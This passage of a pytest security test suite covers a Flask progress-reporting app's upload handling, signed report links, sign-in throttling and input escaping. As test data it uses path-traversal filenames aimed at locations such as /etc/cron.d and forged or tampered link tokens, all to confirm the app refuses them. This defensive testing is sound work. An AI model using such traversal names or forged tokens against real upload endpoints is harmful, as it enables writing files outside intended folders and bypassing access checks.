    app, client, reporting, tmp_path, case, filename, content, message
):
    token = sign_report_link(app.config["SECRET_KEY"], reporting.focal, reporting.action)
    outside = _files_under(tmp_path)
    url = f"/r/{token}"
    response = client.post(url, **multipart({
        "narrative": "Done", "percent_complete": "50", "proposed_status": "ongoing", "links": "",
        "csrf_token": csrf_token(client, url), "file": (io.BytesIO(content), filename),
    }))
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    _assert_nothing_stored(reporting, tmp_path, outside)
    # Nor a stray draft that the link's next use would duplicate.
    assert db.session.scalar(select(func.count()).select_from(ProgressReport)) == 0


@pytest.mark.parametrize("filename", ["../../../../etc/cron.d/evil.pdf", "/tmp/absolute.pdf",
                                      "..\\..\\windows.pdf", "....//....//dots.pdf", "%2e%2e%2fencoded.pdf"])
def test_a_valid_file_with_a_traversal_name_is_stored_inside_the_upload_folder_under_our_name(
    app, client, reporting, tmp_path, filename
):
    token = sign_report_link(app.config["SECRET_KEY"], reporting.focal, reporting.action)
    outside = _files_under(tmp_path)
    url = f"/r/{token}"
    response = client.post(url, **multipart({
        "narrative": "Done", "percent_complete": "50", "proposed_status": "ongoing", "links": "",
        "csrf_token": csrf_token(client, url), "file": (io.BytesIO(PDF), filename),
    }))
    assert response.status_code == 302
    evidence = db.session.scalars(select(Evidence)).one()
    assert re.fullmatch(r"[0-9a-f]{32}", evidence.stored_name)
    assert "/" not in evidence.filename and "\\" not in evidence.filename and ".." not in evidence.filename
    assert _files_under(reporting.uploads) == [evidence.stored_name]
    assert _files_under(tmp_path) == sorted([*outside, "uploads", f"uploads/{evidence.stored_name}"])


def test_a_request_over_the_size_limit_is_refused_before_it_is_read(app, client, auth, reporting, tmp_path):
    auth.login(reporting.focal.email)
    url = f"/agency/actions/{reporting.action.id}/report"
    token = csrf_token(client, url)
    outside = _files_under(tmp_path)
    before = app.config["MAX_CONTENT_LENGTH"]
    app.config["MAX_CONTENT_LENGTH"] = 2 * 1024 * 1024
    try:
        response = client.post(url, **multipart({
            "narrative": "Done", "percent_complete": "50", "proposed_status": "ongoing", "intent": "submit",
            "csrf_token": token, "file": (io.BytesIO(PDF + b"0" * (3 * 1024 * 1024)), "huge.pdf"),
        }))
    finally:
        app.config["MAX_CONTENT_LENGTH"] = before
    assert response.status_code == 413
    assert "nothing was stored" in response.get_data(as_text=True)
    _assert_nothing_stored(reporting, tmp_path, outside)
    assert db.session.scalar(select(func.count()).select_from(ProgressReport)) == 0


# --- reminder links ------------------------------------------------------------------------------


@pytest.fixture
def linked(app, db_session):
    plan = factories.plan(slug="linked")
    factories.agency(acronym="LNK")
    factories.agency(acronym="OTR")
    mine = factories.action(plan, code="MINE", title="My action", lead_agency="LNK", due_date="2099-12-31")
    also_mine = factories.action(plan, code="ALSO", title="My other action", lead_agency="LNK",
                                 due_date="2099-12-31")
    theirs = factories.action(plan, code="THEIRS", title="Their action", lead_agency="OTR", due_date="2099-12-31")
    focal = factories.user("agency", agency="LNK")
    other_focal = factories.user("agency", agency="OTR")
    token = sign_report_link(app.config["SECRET_KEY"], focal, mine)
    return SimpleNamespace(plan=plan, mine=mine, also_mine=also_mine, theirs=theirs, focal=focal,
                           other_focal=other_focal, token=token)


def _report_form(client, token, **extra):
    url = f"/r/{token}"
    return client.post(url, data={"narrative": "Done", "percent_complete": "60", "proposed_status": "ongoing",
                                  "links": "", "csrf_token": csrf_token(client, "/sign-in"), **extra})


def _reports_on(action) -> int:
    return db.session.scalar(select(func.count()).select_from(ProgressReport)
                             .where(ProgressReport.action_id == action.id))


def _signed_in_the_past(app, payload: dict, seconds_ago: int) -> str:
    class PastSigner(TimestampSigner):
        def get_timestamp(self) -> int:
            return int(time.time()) - seconds_ago

    return URLSafeTimedSerializer(app.config["SECRET_KEY"], salt=SALT, signer=PastSigner).dumps(payload)


def test_an_expired_link_is_refused_with_a_message(app, client, linked):
    max_age = app.config["REPORT_LINK_MAX_AGE"]
    token = _signed_in_the_past(app, {"u": linked.focal.id, "a": linked.mine.id}, max_age + 60)
    for response in (client.get(f"/r/{token}"), client.get(f"/r/{token}/no-change"),
                     _report_form(client, token), client.post(f"/r/{token}/no-change",
                                                               data={"csrf_token": csrf_token(client)})):
        assert response.status_code == 403
        assert "expired" in response.get_data(as_text=True)
    assert _reports_on(linked.mine) == 0
    # A link just inside its lifetime still works.
    fresh = _signed_in_the_past(app, {"u": linked.focal.id, "a": linked.mine.id}, max_age - 60)
    assert client.get(f"/r/{fresh}").status_code == 200


def test_a_link_past_a_shortened_lifetime_is_refused(app, client, linked):
    before = app.config["REPORT_LINK_MAX_AGE"]
    app.config["REPORT_LINK_MAX_AGE"] = -1  # every link is older than that
    try:
        response = client.get(f"/r/{linked.token}")
    finally:
        app.config["REPORT_LINK_MAX_AGE"] = before
    assert response.status_code == 403 and "expired" in response.get_data(as_text=True)


def test_a_link_opens_its_own_action_only_and_grants_no_session(app, client, linked):
    page = client.get(f"/r/{linked.token}").get_data(as_text=True)
    assert "My action" in page and "My other action" not in page and "Their action" not in page
    response = _report_form(client, linked.token, action_id=str(linked.theirs.id), action=str(linked.theirs.id),
                            report_id="1", user_id=str(linked.other_focal.id))
    assert response.status_code == 302
    assert _reports_on(linked.mine) == 1
    assert _reports_on(linked.theirs) == 0 and _reports_on(linked.also_mine) == 0
    report = db.session.scalars(select(ProgressReport).where(ProgressReport.action_id == linked.mine.id)).one()
    assert report.author_id == linked.focal.id

    # The link signed nobody in: every page behind sign-in still sends them to sign in.
    for path in ("/agency/", f"/agency/actions/{linked.also_mine.id}/report",
                 f"/agency/actions/{linked.theirs.id}/report", f"/agency/reports/{report.id}",
                 "/account/", "/secretariat/plans"):
        response = client.get(path)
        assert response.status_code == 302 and "/sign-in" in response.headers["Location"], path
    # The API ignores whatever cookie the link left: still anonymous, so drafts stay hidden.
    assert client.post(f"/api/v1/actions/{linked.mine.id}/reports", json={"percent_complete": 1,
                       "proposed_status": "ongoing"}).status_code == 401


def test_a_link_stops_working_for_an_action_the_user_no_longer_leads(app, client, linked):
    token = sign_report_link(app.config["SECRET_KEY"], linked.focal, linked.theirs)  # never theirs to report
    response = client.get(f"/r/{token}")
    assert response.status_code == 403 and "no longer valid" in response.get_data(as_text=True)


def _tampered(token: str) -> list[str]:
    payload, timestamp, signature = token.rsplit(".", 2)
    # The first character: the last one of a base64 signature may carry only padding bits,
    # so changing it can leave the decoded signature (and its validity) as it was.
    flipped = ("A" if signature[0] != "A" else "B") + signature[1:]
    return [
        f"{payload}.{timestamp}.{flipped}",                      # signature changed
        f"{payload[:-1]}{'A' if payload[-1] != 'A' else 'B'}.{timestamp}.{signature}",  # payload changed
        f"{payload}.{timestamp}",                                # signature dropped
        token + "x",
        "not-a-token",
    ]


def test_tampered_or_foreign_tokens_are_refused(app, client, linked):
    # Another action's payload signed with a key that is not the app's; the app's key with
    # another salt; a token cut short; one action's payload with another's signature.
    forged = URLSafeTimedSerializer("not-the-secret", salt=SALT).dumps({"u": linked.focal.id, "a": linked.theirs.id})
    other_salt = URLSafeTimedSerializer(app.config["SECRET_KEY"], salt="something-else").dumps(
        {"u": linked.focal.id, "a": linked.mine.id})
    swapped = linked.token.split(".", 1)[0]
    other = sign_report_link(app.config["SECRET_KEY"], linked.focal, linked.also_mine)
    spliced = other.split(".", 1)[0] + "." + linked.token.split(".", 1)[1]  # ALSO's payload, MINE's signature
    for token in [*_tampered(linked.token), forged, other_salt, swapped, spliced]:
        for response in (client.get(f"/r/{token}"), _report_form(client, token)):
            assert response.status_code in (403, 404), (token, response.status_code)
    assert _reports_on(linked.mine) == 0 and _reports_on(linked.also_mine) == 0 and _reports_on(linked.theirs) == 0


# --- sign-in throttling over HTTP -------------------------------------------------------------


def test_sign_in_is_throttled_per_account_and_address_even_with_the_right_password(app, db_session):
    """Five failures for one account from one address throttle that account at that address
    (the right password included); the account's owner, elsewhere, is not locked out."""
    victim = factories.user("secretariat")
    bystander = factories.user("secretariat")
    attacker = Visitor(app)

    def attempt(email: str, password: str, address: str = "127.0.0.1"):
        return attacker.request("post", "/sign-in", environ_base={"REMOTE_ADDR": address}, data={
            "email": email, "password": password, "csrf_token": attacker.csrf("/sign-in")})

    for n in range(5):
        response = attempt(victim.email, f"wrong password {n}")
        assert response.status_code == 422, n
        assert "The email or password is not correct." in response.get_data(as_text=True)
    response = attempt(victim.email.upper(), PASSWORD)  # the right password, the same email
    assert response.status_code == 429
    page = response.get_data(as_text=True)
    assert "Too many failed sign-ins. Try again in" in page
    assert not html_problems(page)
    assert attacker.get("/secretariat/plans").status_code == 302  # still not signed in
    assert db.session.scalar(select(func.count()).select_from(SignInFailure)
                             .where(SignInFailure.email == victim.email.lower())) == 5

    # Another account is not affected, from another browser or from this one.
    other = Visitor(app, bystander)
    assert other.get("/secretariat/plans").status_code == 200
    assert attempt(bystander.email, PASSWORD).status_code == 302
    # Nor is the victim at another address: failures elsewhere never lock the owner out.
    owner = Visitor(app)
    response = owner.request("post", "/sign-in", environ_base={"REMOTE_ADDR": "198.51.100.7"}, data={
        "email": victim.email, "password": PASSWORD, "csrf_token": owner.csrf("/sign-in")})
    assert response.status_code == 302
    assert owner.get("/secretariat/plans").status_code == 200


def test_hostile_text_in_a_failed_sign_in_is_escaped(client):
    response = client.post("/sign-in?next=" + quote(PAYLOAD), data={
        "email": PAYLOAD, "password": "x", "csrf_token": csrf_token(client)})
    page = response.get_data(as_text=True)
    assert response.status_code in (422, 429)
    assert not html_problems(page)


def test_dates_in_the_future_and_past_are_fine(client, searchable):
    for since in ("0001-01-01", "9999-12-31", date.max.isoformat()):
        assert client.get("/changes", query_string={"since": since}).status_code == 200
    for as_of in ("0001-01-01", "9999-12-31"):
        assert client.get("/plans/searchable", query_string={"as_of": as_of}).status_code == 200
        assert client.get("/api/v1/plans/searchable/scorecard", query_string={"as_of": as_of}).status_code == 200
